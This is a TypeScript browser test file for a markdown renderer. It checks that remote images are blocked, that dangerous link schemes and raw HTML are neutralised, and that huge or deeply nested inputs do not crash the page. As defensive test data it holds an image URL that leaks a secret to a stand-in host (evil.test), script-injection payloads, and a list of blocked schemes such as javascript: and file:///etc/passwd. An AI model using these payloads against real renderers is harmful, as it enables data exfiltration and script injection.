import { describe, expect, test } from 'vitest'
import { chromiumPath } from '../support/browsers/browser.ts'
import { useStage } from './stage.ts'

describe.skipIf(!chromiumPath)('markdown in a browser', () => {
  const openStage = useStage()

  async function shown(text: string, isOpen = false) {
    const opened = await openStage()
    const show = (next: string, open: boolean) =>
      opened.page.evaluate(([words, is]) => stage.showText(words as string, is as boolean), [next, open] as const)
    await show('Ready.', false)
    await opened.page.locator('.markdown > p:not(.markdown-plain)').waitFor()
    opened.requests.length = 0
    await show(text, isOpen)
    return { ...opened, show, markdown: opened.page.locator('.markdown') }
  }

  test('a remote image is shown as blocked and sends no request', async () => {
    const { markdown, page, requests, complaints } = await shown(
      'See ![the plan](https://evil.test/p.png?data=secret) ![](//evil.test/x) ![d](data:image/png;base64,AAAA) ![b](blob:http://x/1)',
    )
    await expect.poll(() => markdown.textContent()).toContain('[Image blocked: the plan]')
    await page.waitForTimeout(200)
    expect(await page.locator('img').count()).toBe(0)
    expect(requests).toEqual([])
    expect(complaints).toEqual([])
  })

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:http://x/1',
    'irc://x',
    'tel:1',
    '&#106;avascript:alert(1)',
    'other:thing',
  ])('a link to %s is no link', async (address) => {
    const { markdown, page } = await shown(`[press](${address}) <${address}>`)
    await expect.poll(() => markdown.textContent()).toContain('press [blocked]')
    expect(await page.locator('.markdown a').count()).toBe(0)
  })

  test('a link opens a new tab without opener and referrer', async () => {
    const { page } = await shown('[there](https://example.test/a) and [here](/files/1)')
    const link = page.locator('.markdown a').first()
    await link.waitFor()
    expect(await link.getAttribute('target')).toBe('_blank')
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer')
    expect(await page.locator('.markdown a').nth(1).getAttribute('href')).toBe('/files/1')
  })

  test('raw HTML is shown as text', async () => {
    const { markdown, page, complaints } = await shown(
      '<img src=x onerror="window.hit=1"> <b>bold</b>\n\n<script>window.hit=1</script>\n\n<iframe src="https://evil.test"></iframe>',
    )
    await expect.poll(() => markdown.textContent()).toContain('<b>bold</b>')
    expect(await page.locator('.markdown :is(img, b, script, iframe)').count()).toBe(0)
    expect(await page.evaluate(() => 'hit' in globalThis)).toBe(false)
    expect(complaints).toEqual([])
  })

  test('headings are all on one level below the page', async () => {
    const { page } = await shown('### Deep\n\n# High\n\n###### Low')
    await page.locator('.markdown h2').nth(2).waitFor()
    expect(await page.locator('.markdown :is(h1, h3, h4, h5, h6)').count()).toBe(0)
  })

  test('the copy button copies the code', async () => {
    const { page } = await shown('```js\nlet a = 1\n\n  let b = "<&>"\n```\n')
    await page.getByRole('button', { name: 'Copy' }).click()
    await page.getByRole('button', { name: 'Copied' }).waitFor()
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('let a = 1\n\n  let b = "<&>"')
  })

  test('highlighting is loaded once code is complete, not before, and changes no height', async () => {
    const code = '```ts\nconst answer: number = 42 // why\nexport function ask(a: string) {\n  return a + 1\n}\n'
    const { page, requests, show, complaints } = await shown(code, true)
    await page.locator('.markdown pre').waitFor()
    await page.waitForTimeout(300)
    expect(requests).toEqual([])
    const heightOf = () => page.locator('.markdown-code').evaluate((element) => element.getBoundingClientRect().height)
    const before = await heightOf()
    await show(`${code}\`\`\`\nAnd`, true)
    await page.locator('.code-keyword').first().waitFor()
    expect(await heightOf()).toBe(before)
    expect(requests.filter((path) => path.includes('typescript'))).toHaveLength(1)
    expect(await page.locator('.markdown pre').textContent()).toBe(code.slice(6, -1))
    expect(complaints).toEqual([])
  })

  test('a wide table scrolls inside of itself', async () => {
    const row =
      `|${' wideword'.repeat(3)} |`.repeat(1) + Array.from({ length: 40 }, () => ' somewhatlongword |').join('')
    const dashes = `|${Array.from({ length: 41 }, () => '-|').join('')}`
    const { page } = await shown(`${row}\n${dashes}\n${row}`)
    await page.locator('.markdown table').waitFor()
    const widths = await page.evaluate<number[]>('[document.documentElement.scrollWidth, innerWidth]')
    expect(widths[0]).toBeLessThanOrEqual(widths[1] ?? 0)
    expect(await page.locator('.markdown section').evaluate((box) => box.scrollWidth > box.clientWidth)).toBe(true)
  })

  test('references and footnotes find their definitions once the text is complete', async () => {
    const { page, markdown } = await shown(
      'See [the *plan*][1] and this[^a].\n\nMore.\n\n[1]: https://example.test/plan\n[^a]: A note.',
    )
    await page.locator('.markdown a[href="https://example.test/plan"] em').waitFor()
    expect(await markdown.textContent()).toContain('A note.')
  })

  const hostile: [name: string, text: string][] = [
    ['a megabyte of words', 'word '.repeat(200_000)],
    ['a megabyte of paragraphs', 'Some *words* and `code`.\n\n'.repeat(40_000)],
    ['10,000 lines of code', `\`\`\`ts\n${'const a = [1, 2, "three"] // four\n'.repeat(10_000)}\`\`\`\n`],
    ['one long line of code', `\`\`\`ts\n${'a+'.repeat(25_000)}\n\`\`\`\n`],
    ['10,000 quotes deep', `${'>'.repeat(10_000)} deep`],
    ['10,000 items deep', `${'- '.repeat(10_000)}deep`],
    ['items on steps', Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')],
    ['open brackets', '['.repeat(30_000)],
    ['links in links', `${'['.repeat(10_000)}a${'](b)'.repeat(10_000)}`],
    ['stars', '*a '.repeat(10_000)],
    ['nested stars', '*a **a '.repeat(5_000)],
    ['underscores', '_a_'.repeat(10_000)],
    ['ticks', Array.from({ length: 300 }, (_, length) => '`'.repeat(length)).join(' ')],
    ['open tags', '<a '.repeat(10_000)],
    ['open comments', '<!-- '.repeat(8_000)],
    ['a table of bars', `${'|'.repeat(5_000)}\n${'-|'.repeat(5_000)}`],
    ['addresses', 'www.a.'.repeat(6_000)],
    ['mail addresses', `${'a.'.repeat(15_000)}@`],
    ['entities', '&amp'.repeat(10_000)],
    ['blank lines', '\n'.repeat(100_000)],
  ]
  test.each(hostile)(
    'the page survives %s, whole and half',
    async (_, text) => {
      const { page, complaints, show } = await shown(text.slice(0, text.length / 2), true)
      await show(text, false)
      await show('Still here.', false)
      await expect.poll(() => page.locator('.markdown').textContent(), { timeout: 40_000 }).toBe('Still here.')
      expect(complaints).toEqual([])
    },
    60_000,
  )
})
